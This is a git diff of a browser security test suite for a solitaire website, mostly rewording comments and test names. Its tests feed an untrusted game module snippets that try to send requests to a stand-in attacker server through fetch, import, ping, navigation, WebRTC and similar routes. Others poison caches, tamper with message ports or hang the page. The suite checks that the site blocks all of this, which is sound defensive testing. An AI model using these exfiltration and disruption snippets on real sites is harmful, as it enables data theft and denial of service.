@@ -1,4 +1,4 @@
-/** Attacks of a stranger's module, and of a stranger's page, on the site. The attacker's server notes every request. */
+/** Attacks on the site by an added module and by an embedding page. The attacker's server records every request. */
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
 import { sample } from '@patience/tooling/sample';
 import type { Page } from 'playwright-core';
@@ -8,7 +8,7 @@ import { guestOf, dealt, Site, variants } from './site.js';
 const site = new Site();
 const attacker = Elsewhere.forTests();
 const id = variants[0]!.id;
-/** One visitor for all: the service worker takes its time to come. */
+/** The page shared by all tests of this file, since installing the service worker takes long. */
 let page: Page;
 
 beforeAll(() => site.open());
@@ -17,18 +17,18 @@ afterAll(async () => {
   await site.close();
 });
 let here = false;
-/** A visitor with nothing stored, in processes of its own. */
+/** Opens a visitor without stored data, in browser processes of its own. */
 async function come(): Promise<void> {
   await site.leave();
   const visitor = await site.visitor({ serviceWorkers: 'allow' });
-  // Who waits for what never ends waits as long as the test says.
+  // Shorten the time limit of a sandbox as the test says, since some tests wait for endless loops.
   await visitor.addInitScript(() => {
     try {
       Object.assign(globalThis, { patienceSandboxSeconds: sessionStorage.getItem('limit') });
-      // What a test asks of a page counts as a player's touch in this browser.
+      // Fake the absence of user activation: whatever a test runs in a page counts as user activation in this browser.
       if (sessionStorage.getItem('untouched')) Object.defineProperty(navigator, 'userActivation', { value: { isActive: false } });
     } catch {
-      // In a sandbox, where nothing is stored.
+      // Ignore a sandbox, where reading the storage throws.
     }
   });
   page = await visitor.newPage();
@@ -45,16 +45,16 @@ beforeEach(async () => {
 });
 afterEach(async ({ task }) => {
   if (task.result?.state === 'fail') [here] = [false, await site.leave()];
-  site.faults.length = 0; // what the policies stopped is logged
+  site.faults.length = 0; // Clear the faults: the policies log every request that they block.
 });
 
-/** A table of two places: what they let go and take can be changed. */
+/** Returns the source of a table with two places. The parameters replace their rules for taking and accepting cards. */
 const tableOf = (left = `take: 'top', accept: { empty: 'any' }`, right = `accept: { empty: 'any' }`): string => `[
     { id: 'l', role: 'tableau', at: [0, 0], ${left} },
     { id: 'r', role: 'foundation', at: [1, 0], ${right} },
   ]`;
 
-/** A patience that is sound, with one thing in it changed. */
+/** Returns the source of a sound patience with one change. */
 const sound = (change = '', top = ''): string => `${top}
 const words = { name: 'Trojan', summary: 'One card, two places.', rules: 'The card goes to the right.' };
 const variant = {
@@ -67,7 +67,7 @@ const variant = {
 };
 export default variant;`;
 
-/** Offers a module to the player. @returns what the page says */
+/** Adds a module on the page for added games. @returns the message that the page shows */
 async function offer(text: string): Promise<string> {
   const address = attacker.put('/module.js', 'text/javascript', text);
   if (!page.url().endsWith('/en/add/')) await page.goto('en/add/');
@@ -79,11 +79,11 @@ async function offer(text: string): Promise<string> {
   });
   await status.waitFor();
   expect(attacker.requests.filter((path) => path !== '/module.js')).toEqual([]);
-  expect(await page.locator('iframe').count()).toBe(0); // the sandbox is gone
+  expect(await page.locator('iframe').count()).toBe(0); // The sandbox of the trial is removed.
   return status.innerText();
 }
 
-/** The site is as it was: its pages, its caches, its data. */
+/** Checks that the site is unchanged: its pages, its caches, its data. */
 async function unharmed(): Promise<void> {
   const caches = await page.evaluate(async () => (await globalThis.caches.keys()).map((name) => name.replace(/^(patience-site) .*/, '$1')));
   expect(caches.filter((name) => name !== 'patience-site')).toEqual([]);
@@ -96,7 +96,7 @@ async function remove(): Promise<void> {
   await page.getByText('“Trojan” was removed').waitFor();
 }
 
-/** Ways out. */
+/** Returns statements by which a module could send a request to a server, by name. */
 const waysTo = (to: string): Record<string, string> => ({
   fetch: `fetch('${to}/fetch')`,
   'fetch that outlives it': `fetch('${to}/keepalive', { keepalive: true, mode: 'no-cors', method: 'POST', body: 'x' })`,
@@ -121,8 +121,8 @@ const waysTo = (to: string): Record<string, string> => ({
   channel: `new BroadcastChannel('patience').postMessage({ changed: ['games'] })`,
 });
 
-describe('a module, while it is tried', () => {
-  test('knows ways that lead to its server where no policy stops them', async () => {
+describe('a module in its trial', () => {
+  test('the ways out that these tests try do reach the server where no policy blocks them', async () => {
     const { navigation: _, ...rest } = waysTo(attacker.address);
     const tries = Object.values(rest).map((way) => `try { Promise.resolve(${way}).catch(() => {}); } catch {}`);
     const own = await (await site.visitor()).newPage();
@@ -132,7 +132,7 @@ describe('a module, while it is tried', () => {
     await own.close();
   });
 
-  test('reaches no network and no storage by any way, when it is loaded and when it is dealt', async () => {
+  test('reaches no network and no storage by any way, on import and on dealing', async () => {
     const tries = Object.values(waysTo(attacker.address)).map((way) => `try { Promise.resolve(${way}).catch(() => {}); } catch {}`);
     const all = tries.join('\n');
     expect(await offer(sound(`deal(table) { ${all} table.move('pack', 'l', { face: 'up' }); }`, all))).toContain(
@@ -194,8 +194,8 @@ describe('a module, while it is tried', () => {
     ['a loop without an end when it is loaded', 'for (;;);', /did not finish/],
     ['a loop without an end in its table', sound(`table: () => { for (;;); },`), /did not finish/],
     ['a promise that never ends', 'await new Promise(() => {}); export default 1;', /did not finish/],
-  ])('brings %s: the page is alive and unharmed', async (_name, text, said) => {
-    // Who waits for what never ends waits no longer than it takes.
+  ])('that brings %s leaves the page usable and unharmed', async (_name, text, said) => {
+    // Use the short limit only for modules that never finish.
     const limit = said.source.includes('did not finish') ? 1 : 5;
     if (!page.url().endsWith('/en/add/')) await page.goto('en/add/');
     await page.evaluate((seconds) => Object.assign(globalThis, { patienceSandboxSeconds: seconds }), limit);
@@ -221,10 +221,10 @@ describe('a module, while it is tried', () => {
   });
 });
 
-describe('a module, while it is played', () => {
+describe('a module on the table', () => {
   const inGuest = (code: string): string => `if (typeof document !== 'undefined') { ${code} }`;
 
-  /** Lays a module on the table that has passed its trial as another: the trial runs where there is no document. */
+  /** Puts a module on the table without a trial of its own: the trial, which another module passed, runs in a worker without a document. */
   async function play(text: string, seconds = 5): Promise<void> {
     await page.goto('en/add/');
     await page.evaluate(async (source) => {
@@ -245,7 +245,7 @@ describe('a module, while it is played', () => {
     await page.goto('en/play/?variant=trojan');
   }
 
-  /** The page answers, keeps what it kept, and the entry can be taken away. */
+  /** Checks that the page responds, kept its data, and can remove the added game. */
   async function survived(): Promise<void> {
     expect(attacker.requests).toEqual([]);
     expect(await page.title()).toMatch(/Patience|Trojan/);
@@ -259,7 +259,7 @@ describe('a module, while it is played', () => {
     expect(await page.locator('iframe').count()).toBe(0);
   };
 
-  test('reaches no network, no storage and no page by any way, when it is loaded, dealt and asked', async () => {
+  test('reaches no network, no storage and no page by any way, on import, on dealing and on questions of the table', async () => {
     const to = attacker.address;
     const frame = `const f = document.createElement('iframe'); f.srcdoc = ${JSON.stringify(`<script>new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] }).createDataChannel('x'); parent.postMessage('ran', '*')</script>`)}; document.body.append(f)`;
     const element = (tag: string, more: string): string => `document.head.append(Object.assign(document.createElement('${tag}'), ${more}))`;
@@ -296,7 +296,7 @@ describe('a module, while it is played', () => {
     for (const name of ['fetch', 'import', 'top title', 'its frame', 'storage', 'cookie', 'RTC']) expect(title).toContain(name);
     expect(title).not.toContain('RAN');
     await survived();
-    // Where it takes its own frame, nothing is left to play, and nothing arrives.
+    // A module that navigates its own frame away leaves no game to play, and its requests still do not arrive.
     const ping = `(() => { const a = Object.assign(document.createElement('a'), { href: '#', ping: '${to}/ping' }); document.body.append(a); a.click(); })()`;
     await play(sound('', inGuest(`${ping}; location.href = '${to}/navigation';`)), 1);
     await ended();
@@ -307,7 +307,7 @@ describe('a module, while it is played', () => {
   const turn = (when: string, run: string): string =>
     `actions: { turn: { on: 'l', when() { ${when} return true; }, run(table) { ${run} table.move('l', 'r'); } } },`;
 
-  /** The functions of a variant that are called before the first move. */
+  /** The functions of a variant that are called before the first move, each with an endless loop. */
   const AT_FIRST: Readonly<Record<string, string>> = {
     options: `get options() { ${LOOP} return {}; },`,
     valid: `valid() { ${LOOP} return true; },`,
@@ -326,7 +326,7 @@ describe('a module, while it is played', () => {
     expect(attacker.requests).toEqual([]);
   });
 
-  /** The functions of a variant that are called when a card is touched. */
+  /** The functions of a variant that are called when a card is touched, each with an endless loop. */
   const TOUCHED: Readonly<Record<string, string>> = {
     rank: `rank() { ${LOOP} return 0; },`,
     take: `table: () => ${tableOf(`take: () => { ${LOOP} return 1; }`)},`,
@@ -337,19 +337,19 @@ describe('a module, while it is played', () => {
     await play(sound(TOUCHED[name]), 0.7);
     const card = guestOf(page).locator('patience-game [part~=card]');
     const met = await Promise.race([card.waitFor().then(() => true), ended().then(() => false)]);
-    // A browser answers a click only when the page has heard it, and this one is deaf by then.
+    // Do not wait for the click: the browser confirms it only after the page handled it, and the page hangs by then.
     if (met) card.click().catch(() => undefined);
     await ended();
     expect(attacker.requests).toEqual([]);
   });
 
-  test('fills the memory: it is stopped, the page is alive', async () => {
+  test('that fills the memory is stopped, and the page stays usable', async () => {
     await play(sound('', inGuest(`const hog = []; for (;;) hog.push(new ArrayBuffer(1e6), 'x'.repeat(3e5) + hog.length);`)), 0.7);
     await ended();
     await survived();
   });
 
-  /** Attacks of a module on the port through which its table sends messages. */
+  /** Returns a module that attacks the message port of its table. */
   const port = (say: string): string =>
     inGuest(
       `const { parse, stringify } = JSON; const send = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (message) { if (typeof message !== 'string') return send.call(this, message); message = JSON.parse(message); const say = (m) => send.call(this, JSON.stringify(m)); ${say} };`,
@@ -378,7 +378,7 @@ describe('a module, while it is played', () => {
         `say(message.is === 'open' ? { ...message, variant: { ...message.variant, strings: { de: 'x'.repeat(3e7), en: 1 } } } : message);`,
       ),
     ],
-  ])('%s: it is stopped, the page is alive', async (_name, text) => {
+  ])('that %s is stopped, and the page stays usable', async (_name, text) => {
     await play(sound('', text), 0.7);
     await ended();
     expect(attacker.requests).toEqual([]);
@@ -404,8 +404,8 @@ describe('a module, while it is played', () => {
         `say(message); if (message.is === 'answer' && message.state) { const { state } = message; for (const what of [{ is: 'deal' }, { is: 'sheet', sheet: 'deal' }, { is: 'escape' }, { is: 'event', event: 'patience-hint', gesture: [], state }]) say(what); say({ is: 'menu', settings: { fourColors: true, largeIndex: true, highContrast: true, leftHanded: true, outlook: true } }); say({ is: 'event', event: 'patience-ready', gesture: [], state: { ...state, save: { ...state.save, seed: 'mine' } } }); }`,
       ),
     ],
-  ])('sends %s: the game is played, nothing is changed', async (_name, text) => {
-    await come(); // the processes of the games before may be at their loops yet
+  ])('that sends %s can still be played and changes nothing', async (_name, text) => {
+    await come(); // Open a fresh visitor: the processes of earlier games may still run their endless loops.
     await play(sound('', text));
     await dealt(guestOf(page));
     await expect.poll(() => page.locator('#deal').innerText()).toMatch(/^Deal \d+/);
@@ -422,7 +422,7 @@ describe('a module, while it is played', () => {
     expect(attacker.requests).toEqual([]);
   });
 
-  test('opens one dialog of the site at most, however often it asks for one', async () => {
+  test('opens one dialog of the site at most, however often it requests one', async () => {
     await come();
     await play(
       sound(
@@ -487,7 +487,7 @@ describe('a module, while it is played', () => {
     ).toBe(false);
   });
 
-  test('games of an added module are counted apart, and can be removed', async () => {
+  test('the games of an added module are counted apart from the others, and can be deleted', async () => {
     await remove();
     await unharmed();
     await page.goto('en/games/');
@@ -497,7 +497,7 @@ describe('a module, while it is played', () => {
 });
 
 describe('the site', () => {
-  test('hands out nothing that somebody else put into its cache', async () => {
+  test('serves nothing that a stranger put into its cache', async () => {
     await page.evaluate(async () => {
       const name = (await caches.keys()).find((one) => one.startsWith('patience-site'))!;
       const poison = (): Response => new Response('<title>mine</title>', { headers: { 'Content-Type': 'text/html' } });
@@ -521,7 +521,7 @@ describe('the site', () => {
     await page.evaluate(() => caches.delete('mine'));
   });
 
-  test('gives its policy to pages, scripts and workers, from the server and from the service worker', async () => {
+  test('sends its policy with pages, scripts and workers, from the server and from the service worker', async () => {
     const script = await page.goto(`en/play/${id}/?seed=3`).then(() => page.locator('script[type=module]').getAttribute('src'));
     await dealt(page);
     const address = new URL(script!, page.url()).href;
@@ -538,7 +538,7 @@ describe('the site', () => {
         await element.hint();
       }),
     ]);
-    // As a text: what compiles the tests would change the import.
+    // Pass the function as a text: the compiler of the tests would rewrite its import.
     const tried = await worker.evaluate<string[]>(`(async () => {
       const outcome = (way) => way.then(() => 'reached', () => 'refused');
       return [await outcome(fetch('${attacker.address}/worker')), await outcome(import('${attacker.address}/worker.js'))];
@@ -547,7 +547,7 @@ describe('the site', () => {
     expect(attacker.requests).toEqual([]);
   });
 
-  test('fetches from elsewhere for the page where a game is added, and for no other', async () => {
+  test('lets the service worker fetch from elsewhere only for the pages that add games', async () => {
     const ask = (): Promise<string> =>
       page.evaluate((address) => {
         const { port1, port2 } = new MessageChannel();
@@ -556,7 +556,7 @@ describe('the site', () => {
           new Promise<string>((done) => (port1.onmessage = () => done('answered'))),
           fetch(location.href)
             .then(() => fetch(location.href))
-            .then(() => 'silent'), // the worker has heard it by now
+            .then(() => 'silent'), // A service worker that does not answer within this time has ignored the message.
         ]);
       }, `${attacker.address}/asked`);
     for (const path of ['en/', 'en/games/', `en/play/${id}/`, 'en/watch/']) {
@@ -566,7 +566,7 @@ describe('the site', () => {
     expect(attacker.requests).toEqual([]);
   });
 
-  test('can be put into a frame where it is made for it, and nowhere else', async () => {
+  test('can be framed on its embed page, and nowhere else', async () => {
     for (const [path, shown] of [
       [`embed/?variant=${id}`, true],
       ['en/', false],
@@ -580,7 +580,7 @@ describe('the site', () => {
     }
   });
 
-  test('forgets everything when the player says so, whoever put it there', async () => {
+  test('deletes everything on request, whoever stored it', async () => {
     await page.goto(`en/play/${id}/?seed=3`);
     await dealt(page);
     await page.evaluate(async () => {
